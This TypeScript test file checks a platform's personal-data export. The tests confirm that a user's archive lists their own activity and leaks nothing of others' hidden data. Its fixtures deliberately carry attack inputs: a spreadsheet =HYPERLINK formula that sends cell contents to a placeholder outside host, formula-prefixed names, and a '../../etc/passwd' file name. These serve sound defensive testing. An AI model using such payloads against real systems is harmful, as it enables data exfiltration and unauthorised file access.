// All that is kept of a person stands in their archive; of others nothing that the person does not see.
import { randomUUID } from 'node:crypto'
import sharp from 'sharp'
import { sql } from 'kysely'
import { expect, test } from 'vitest'
import type { UploadDescriptorEntry } from '../../contract/files.ts'
import type { CallName } from '../../contract/api.ts'
import { settle } from '../../testing/accounts.ts'
import { aStep, attaching } from '../../testing/attachments.ts'
import { aBusiness } from '../../testing/businesses.ts'
import { testApi, testDatabase } from '../../testing/database.ts'
import { aKeeper, jsonIn, ownArchiveOf, rowsIn, type Keeper } from '../../testing/exports.ts'
import { aFileServer } from '../../testing/files.ts'
import { everyEdition } from '../editions/masks.ts'
import { testCalls } from '../../testing/team.ts'

const database = await testDatabase()
const { db } = database
const server = await aFileServer(database)
const send = testCalls(await testApi(database))

/** Makes a call that has to succeed. */
async function call(name: CallName, input: Record<string, unknown>, as: Keeper) {
  const { status, data, body } = await send(name, input, as)
  expect([name, status, body]).toEqual([name, 200, expect.anything()])
  return data
}
const formula = '=HYPERLINK("https://x.example/?"&A1,"click")'
/** Stands in everything of others that the person does not see. */
const canary = 'ocelot'

/** A checked picture of somebody, for a post. */
async function aPicture({ bearer }: Keeper): Promise<string> {
  const bytes = await sharp({ create: { width: 90, height: 60, channels: 3, background: '#1d4f8c' } })
    .png()
    .toBuffer()
  const wish = { contentType: 'image/png', fileSize: bytes.length }
  const { data } = await server.call(bearer, '/files/upload-request/user', wish)
  const { signedPost, token } = data as UploadDescriptorEntry
  expect(await server.post(signedPost, bytes)).toBe(204)
  expect((await server.check(bearer, token)).status).toBe(200)
  return token
}

/** Somebody who has done everything that can be done here, and those with whom they did. */
async function aLife() {
  const [person, friend, seller, foe] = [
    await aKeeper(database, { firstName: 'Aiko', lastName: 'Mori', mobilePhone: null }),
    await aKeeper(database, {
      firstName: 'Mara',
      lastName: 'Lindqvist',
      email: `${canary}.${randomUUID()}@keepers.example`,
    }),
    await aKeeper(database, { firstName: '=Otto', lastName: 'Seller' }),
    await aKeeper(database, { firstName: 'Foe', lastName: 'Nobody' }),
  ] as const
  const { businessID, productIDs } = await aBusiness(db, {
    companyName: formula.slice(0, 60),
    products: [{}, { published: false, name: `A draft of an ${canary}` }],
    members: [{ userID: seller.userID, role: 'owner' }],
  })
  const { businessID: own } = await aBusiness(db, {
    companyName: 'Mori Gears',
    members: [{ userID: person.userID, role: 'owner' }],
  })
  return { person, friend, seller, foe, businessID, productID: productIDs[0]!, own }
}

async function lived() {
  const life = await aLife()
  const { person, friend, seller, foe, businessID, productID } = life
  const company = { resourceType: 'business', resourceID: businessID }
  await call(
    'changeOwnProfile',
    { lastName: 'Mori-Sato', birthDate: '1970-10-24', showBirthDate: false },
    person,
  )
  await call('follow', company, person)
  await call('follow', { resourceType: 'user', resourceID: person.userID }, friend)
  await call('react', { resourceType: 'product', resourceID: productID }, person)
  await call('saveFavourite', { resourceType: 'user', resourceID: friend.userID }, person)
  const asked = await call('askConnection', { resourceType: 'user', resourceID: friend.userID }, person)
  await call('acceptConnection', { id: asked['connectionID'] }, friend)
  await call('askConnection', { ...company, note: 'From the fair.' }, person)
  const picture = { token: await aPicture(person), alt: 'A gear' }
  const post = {
    content: 'First words',
    timelineType: 'user',
    timelineID: person.userID,
    pictures: [picture],
  }
  const { postID } = (await call('makePost', post, person)) as { postID: string }
  await call('changePost', { id: postID, content: '+Second words', revision: 1 }, person)
  const drawing = { bytes: aStep(), contentType: 'model/step' as const, fileName: '../../etc/passwd.step' }
  const { token } = await attaching(server).attached(person.bearer, drawing)
  const letter = { to: businessID, subject: 'Price list', message: '@A price, please.', attachments: [token] }
  const { requestID } = (await call('sendInquiry', letter, person)) as { requestID: string }
  await call('sendMessage', { rid: requestID, bid: businessID, content: 'Here it is.' }, seller)
  await call('blockParty', { resourceType: 'user', resourceID: foe.userID }, person)
  await call('reportResource', { ...company, reason: 'spam', text: 'It repeats itself.' }, person)
  await call('inviteMember', { id: businessID, email: person.email, role: 'member' }, seller)
  await call('changeNotificationPreferences', { wordsInMails: false, readMarks: false }, person)
  await settle(db)
  return { ...life, postID, requestID }
}

/** What the others have and do among themselves, each with the word in it. */
async function others({ friend, seller, foe, businessID }: Awaited<ReturnType<typeof aLife>>) {
  const phone = { countryCode: '+81', phoneNumber: '312345678' }
  const hidden = { profession: `${canary} tamer`, showProfession: false, mobilePhone: phone }
  await call('changeOwnProfile', hidden, friend)
  const { requestID } = (await call(
    'sendInquiry',
    { to: businessID, subject: 'Price list', message: `Between us: an ${canary}.` },
    friend,
  )) as { requestID: string }
  await call('sendMessage', { rid: requestID, bid: businessID, content: `No ${canary} today.` }, seller)
  await call(
    'reportResource',
    { resourceType: 'business', resourceID: businessID, reason: 'spam', text: canary },
    foe,
  )
  // Met before it hid, and one that a foe has.
  const { businessID: hiding } = await aBusiness(db, { companyName: `Hidden ${canary} Works` })
  await sql`update businesses set hidden_editions = ${everyEdition} where id = ${hiding}`.execute(db)
  return hiding
}

test('everything that a person has done stands in their archive, each thing with its file', async () => {
  const { person, friend, foe, businessID, productID, postID, requestID, own } = await lived()
  const archive = await ownArchiveOf(db, server, person)
  const company = formula.slice(0, 60)
  const at = expect.stringMatching(/^\d{4}-\d\d-\d\dT.*Z$/) as string
  expect(jsonIn(archive, 'account.json')).toMatchObject({
    userID: person.userID,
    email: person.email,
    language: expect.any(String) as string,
    termsVersion: expect.any(String) as string,
    registeredAt: at,
    suspendedAt: null,
    secondFactor: { since: null, recoveryCodesLeft: 0 },
    decisions: [],
  })
  expect(jsonIn(archive, 'profile.json')).toMatchObject({
    firstName: 'Aiko',
    lastName: 'Mori-Sato',
    birthDate: '1970-10-24',
    showBirthDate: false,
    followers: 1,
    pastNames: [{ firstName: 'Aiko', lastName: 'Mori', until: at }],
  })
  expect(jsonIn(archive, 'log-ins.json')).toMatchObject({
    open: [{ device: 'Firefox on Linux', loggedInAt: at, usedAt: at }],
  })
  expect(jsonIn(archive, 'settings.json')).toMatchObject({ wordsInMails: false, readMarks: false })
  expect(jsonIn(archive, 'teams.json')).toEqual({
    member: [
      { businessID: own, name: 'Mori Gears', role: 'owner', referee: false, since: at, removedAt: null },
    ],
    invitations: [{ businessID, name: company, role: 'member', invitedAt: at, expiresAt: at }],
    requests: [],
    offers: [],
  })
  expect(jsonIn(archive, 'posts.json')).toMatchObject([
    { postID, content: '+Second words', earlier: [{ content: 'First words', writtenAt: at }] },
  ])
  const friends = { resourceType: 'user', resourceID: friend.userID, name: 'Mara Lindqvist' }
  expect(jsonIn(archive, 'connections.json')).toEqual([{ ...friends, since: at }])
  expect(jsonIn(archive, 'connection-requests.json')).toMatchObject([
    { state: 'asked', resourceID: businessID, name: company, note: 'From the fair.' },
  ])
  expect(jsonIn(archive, 'follows.json')).toEqual([
    { resourceType: 'business', resourceID: businessID, name: company, since: at },
  ])
  expect(jsonIn(archive, 'likes.json')).toMatchObject([
    { resourceType: 'product', resourceID: productID, since: at },
  ])
  expect(jsonIn(archive, 'favourites.json')).toEqual([{ ...friends, savedAt: at }])
  expect(jsonIn(archive, 'blocks.json')).toMatchObject([{ resourceID: foe.userID, name: 'Foe Nobody' }])
  expect(jsonIn(archive, 'reports.json')).toMatchObject([
    { resourceID: businessID, reason: 'spam', text: 'It repeats itself.', reportedAt: at },
  ])
  expect(jsonIn(archive, 'inquiries.json')).toMatchObject([
    {
      requestID,
      direction: 'sent',
      to: company,
      messages: [
        {
          from: 'S',
          author: 'Aiko Mori-Sato',
          content: '@A price, please.',
          attachments: [{ name: expect.any(String) as string }],
        },
        { from: 'R', author: '=Otto Seller', content: 'Here it is.' },
      ],
    },
  ])
  expect(JSON.stringify(jsonIn(archive, 'notifications.json'))).toContain('connection.accepted')

  const [, ...files] = rowsIn(archive, 'files.csv')
  expect(files).toHaveLength(2)
  for (const [, path = '', , , , bytes] of files) {
    expect(path).toMatch(/^files\/(user\/post|inquiries\/[\w-]+\/message)-[\w-]+\.\w+$/)
    expect(archive.get(path)?.length).toBe(Number(bytes))
  }
  for (const name of ['connections', 'follows', 'likes', 'favourites', 'teams', 'log-ins', 'files'])
    for (const cell of rowsIn(archive, `${name}.csv`).flat())
      expect(cell, name).not.toMatch(/^[\s\u200b]*[=+\-@\t\r＝＋－＠]/)
  expect(rowsIn(archive, 'follows.csv')[1]).toEqual([businessID, 'Company', `'${company}`, at])
  expect(rowsIn(archive, 'teams.csv')[1]).toEqual([own, 'Mori Gears', 'Owner', at])
})

test('of others nothing stands there that the person does not see; nothing proves who anybody is', async () => {
  const life = await lived()
  const { person, friend, seller } = life
  const hiding = await others(life)
  await sql`insert into follows (resource_type, resource_id, actor_type, actor_id, created_at)
    values ('business', ${hiding}, 'user', ${person.userID}, now())`.execute(db)
  await settle(db)
  const archive = await ownArchiveOf(db, server, person)
  const { rows: secrets } = await sql<{ text: string }>`
    select password_hash as text from accounts.accounts
    union all select encode(refresh_hash, 'hex') from accounts.sessions
    union all select encode(refresh_hash, 'base64') from accounts.sessions`.execute(db)
  const unseen = [canary, friend.email, seller.email, '312345678', ...secrets.map(({ text }) => text)]
  for (const [name, content] of archive)
    for (const word of unseen) expect(content.toString(), name).not.toContain(word)
  // Whose it is takes it along.
  const theirs = await ownArchiveOf(db, server, friend)
  for (const name of ['profile.json', 'inquiries.json', 'account.json'])
    expect(theirs.get(name)?.toString(), name).toContain(canary)
  // It is told that there is one, as little as its page would say.
  expect(jsonIn(archive, 'follows.json')).toContainEqual({
    resourceType: 'business',
    resourceID: hiding,
    name: null,
    since: expect.any(String) as string,
  })
})

test('the page that explains it names every file, in the language of who asked', async () => {
  const person = await aKeeper(database, { firstName: 'Haruka', lastName: 'Kitazawa' })
  const archive = await ownArchiveOf(db, server, person, 'ja')
  const readme = archive.get('README.txt')?.toString() ?? ''
  expect(readme).toMatch(/Haruka Kitazawa.*[ぁ-ん]/)
  for (const name of [...archive.keys()].filter((one) => one !== 'README.txt')) expect(readme).toContain(name)
  for (const line of readme.split('\r\n').filter((one) => one.startsWith('    ')))
    expect(line).toMatch(/[ぁ-んァ-ヶ一-龠]/)
  expect(rowsIn(archive, 'follows.csv')).toEqual([['ID', '種類', '名称', '日時（UTC）']])
  for (const name of ['follows', 'likes', 'posts', 'inquiries', 'notifications', 'reports', 'blocks'])
    expect(jsonIn(archive, `${name}.json`), name).toEqual([])
})
